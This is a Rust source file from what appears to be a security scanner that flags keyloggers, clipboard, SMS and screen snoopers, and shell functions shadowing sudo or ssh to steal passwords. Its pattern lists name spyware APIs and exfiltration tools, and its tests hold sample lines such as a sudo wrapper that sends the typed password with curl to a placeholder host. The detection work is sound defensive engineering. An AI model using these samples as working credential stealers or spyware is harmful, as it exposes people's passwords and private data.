//! Programs that listen to what a person types, copies or is sent by others (keys, the clipboard, short messages, other programs' windows),
//! and hand it to another machine.

use super::leaks::{self, elsewhere};
use super::source::{Written, dense, is_test};
use crate::policy::lists::holds;

const FORMS: &str = "kt|java|py|pyw|go|js|ts|mjs|cjs|swift|m|mm|c|cc|cpp|h|cs|rs|dart|ps1|vb|ahk|lua|rb|tsx|jsx";

/// What a program hears by that is not its own.
const LISTENS: &str = "AccessibilityService()|extends AccessibilityService|onAccessibilityEvent|NotificationListenerService|onNotificationPosted|\
    getMessagesFromIntent|SMS_RECEIVED|content://sms|SmsMessage.createFromPdu|OnPrimaryClipChanged|addPrimaryClipChangedListener|\
    from pynput|import pynput|keyboard.on_press(|keyboard.hook(|keyboard.record(|pyWinhook|pyHook|SetWindowsHookEx|GetAsyncKeyState|WH_KEYBOARD_LL|\
    CGEventTapCreate|CGEvent.tapCreate|addGlobalMonitorForEvents|iohook|uiohook|node-global-key-listener|clipboard.Watch(|clipboard-event|\
    AddClipboardFormatListener|XRecordEnableContext|rdev::listen|InputDevice('/dev/input|InputDevice(\"/dev/input|robotgo.EventHook|gohook|\
    GlobalKeyboardHook|globalkey|CNContactFetchRequest|enumerateContacts(|ContactsContract.Contacts.CONTENT_URI|Phone.CONTENT_URI|\
    content://call_log|content://contacts|ABAddressBookCopyArray|Telephony.Sms.|readAllSms|CallLog.Calls";

/// What hands something to another machine.
const SENDS: &str = "requests.post(|requests.get(|requests.put(|httpx.|urlopen(|aiohttp|fetch(|axios|newCall(|Request.Builder()|http.Post(|http.PostForm(|\
    http.Get(|http.NewRequest|URL(\"http|HttpURLConnection|openConnection(|HttpClient|URLSession|WebSocket|smtplib|sendall(|curl_easy|WinHttp|\
    InternetOpen|reqwest::|ureq::|TcpClient|Retrofit|sendBeacon(|http.request(|https.request(|Volley|StringRequest|WebClient|Invoke-RestMethod|\
    Invoke-WebRequest|sendMessage|dio.post(|http.post(|Net::HTTP|UploadString|got.post(|got(";

/// Whether a text listens and sends away, as the one before it did not.
pub(super) fn is_written(written: &Written<'_>) -> bool {
    if asks_in_place(written) {
        return true;
    }
    let listens = || written.holds(LISTENS) || written.holds(LOOKS) || written.holds(OF_BROWSERS);
    written.is_form(FORMS) && listens() && !is_test(written.path) && written.gains(tells_on)
}

/// Whether a shell is given something in the place of what asks for a password, that asks for it too and tells or keeps it.
fn asks_in_place(written: &Written<'_>) -> bool {
    const ASKS: &str = "read -s|read -rs|read -sr|read -ers|read --silent|stty -echo|systemd-ask-password|zenity --password|kdialog --password|hidden answer";
    const STANDS: &str = "sudo()|su()|ssh()|doas()|passwd()|login()|gpg()|kinit()|scp()|sftp()|functionsudo|functionssh|functionsu{|functiondoas|\
        functionpasswd|functiongpg|functionkinit|aliassudo=|aliasssh=|aliassu=";
    const KEEPS: &str = "curl|wget|nc |ncat|/dev/tcp/|>>|>~|>/tmp|tee|mail|socat|nslookup|dig ";
    const RECORDS: &str = "aliasssh='strace|aliasssh=\"strace|aliassudo='strace|aliassudo=\"strace|aliassu='strace|aliasssh='script|aliassudo='script";
    let tells = |text: &str| {
        let dense = || dense(text);
        holds(text, ASKS) && holds(text, KEEPS) && holds(&dense(), STANDS)
            || text.contains("alias ") && holds(&dense(), RECORDS)
    };
    let (name, hints) = (written.name(), "read -|stty -echo|ask-password|--password|hidden answer|strace|script ");
    let of_shell = written.is_form("sh|bash|zsh|ksh|fish|command") || name.starts_with('.') || !name.contains('.');
    of_shell && written.holds(hints) && !is_test(written.path) && written.gains(tells)
}

fn tells_on(text: &str) -> bool {
    let names_machine = || {
        text.match_indices("://")
            .take(super::MAX_PLACES)
            .any(|(at, scheme)| elsewhere(&text[at + scheme.len()..]).is_some())
    };
    (holds(text, LISTENS) || looks_again(text) || takes_all(text))
        && (holds(text, SENDS) || leaks::sends(text))
        && names_machine()
}

/// Whether what is copied, or shown on a screen, is looked at again and again.
fn looks_again(text: &str) -> bool {
    const REPEATS: &str = "while True|while 1|while true|while (true)|setInterval(|loop {|for {|Timer(|Timer.|schedule(|NewTicker(|forever";
    holds(text, LOOKS) && holds(text, REPEATS)
}

/// Whether a browser's extension takes all that is kept or was visited, of every site.
fn takes_all(text: &str) -> bool {
    const ALL: &str = "cookies.getAll({})|cookies.getAll({},|cookies.getAll({url:''|history.search({text:''|history.search({text:\"\"";
    holds(text, OF_BROWSERS) && holds(&dense(text), ALL)
}

/// What is copied, or shown on a screen.
const LOOKS: &str = "pyperclip.paste|clipboard.readText(|getPrimaryClip|Clipboard.GetText|clipboard.ReadAll(|NSPasteboard.general|ImageGrab.grab(|\
    mss.mss(|pyautogui.screenshot(|CopyFromScreen(|desktopCapturer.getSources|robotgo.CaptureScreen|screenshot.Capture";

/// What a browser keeps, as its extensions ask for it.
const OF_BROWSERS: &str = "cookies.getAll|history.search";

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn who_asks_in_the_place_of_another_is_seen() {
        for (text, seen) in [
            ("sudo() {\n read -rsp pw: p\n curl -d $p https://a.example\n command sudo -S $@\n}", true),
            ("ssh() { TERM=xterm command ssh \"$@\"; }\nread -s -p x y", false),
            ("read -rsp 'Registry password: ' p\ncurl -u me:$p https://r.example", false),
        ] {
            assert_eq!(is_written(&Written::of(text, None, "/home/you/.bashrc.d/9.sh")), seen, "{text}");
        }
    }

    #[test]
    fn who_listens_and_tells_is_seen() {
        for (name, text, seen) in [
            ("a.py", "from pynput import keyboard\nrequests.post('https://k.example/u', data=b)", true),
            ("a.py", "from pynput import keyboard\napp.toggle()", false),
            ("a.py", "requests.post('https://k.example/u', data=b)", false),
            ("a.kt", "override fun onNotificationPosted(n: N) { URL(\"https://n.example/p\").readText() }", true),
            ("a.kt", "override fun onNotificationPosted(n: N) { store.add(n) }", false),
        ] {
            let path = format!("/home/you/work/shop/src/{name}");
            assert_eq!(is_written(&Written::of(text, None, &path)), seen, "{text}");
        }
    }
}
